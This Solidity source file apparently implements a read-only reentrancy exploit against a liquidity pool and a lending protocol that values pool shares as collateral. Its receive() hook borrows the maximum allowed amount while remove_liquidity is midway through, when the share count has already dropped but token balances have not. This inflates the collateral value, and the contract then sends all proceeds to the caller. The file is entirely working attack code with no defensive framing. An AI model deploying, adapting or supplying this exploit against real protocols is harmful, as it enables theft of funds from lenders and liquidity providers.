// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface IToken {
    function transfer(address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

interface IPool is IToken {
    function add_liquidity(uint256 coins) external payable returns (uint256);
    function remove_liquidity(uint256 shares) external;
}

interface IBank {
    function lock(uint256 amount) external;
    function draw(uint256 amount) external;
    function limit(address who) external view returns (uint256);
    function debt(address who) external view returns (uint256);
}

/// Provides much, takes it out again, and borrows in between, when the pool's shares are fewer already and its tokens not.
contract HalfWay {
    IPool private immutable pool;
    IBank private immutable bank;
    IToken private immutable usd;

    constructor(IPool pool_, IBank bank_, IToken usd_) {
        (pool, bank, usd) = (pool_, bank_, usd_);
    }

    function run(uint256 pledged) external payable {
        uint256 shares = pool.add_liquidity{value: msg.value}(0);
        pool.approve(address(bank), type(uint256).max);
        bank.lock(pledged);
        pool.remove_liquidity(shares - pledged);
        usd.transfer(msg.sender, usd.balanceOf(address(this)));
        IToken coin = IToken(_coin());
        coin.transfer(msg.sender, coin.balanceOf(address(this)));
        payable(msg.sender).transfer(address(this).balance);
    }

    function _coin() private view returns (address coin) {
        (, bytes memory answer) = address(pool).staticcall(abi.encodeWithSignature("coin()"));
        coin = abi.decode(answer, (address));
    }

    receive() external payable {
        if (msg.sender == address(pool)) bank.draw(bank.limit(address(this)) - bank.debt(address(this)));
    }
}
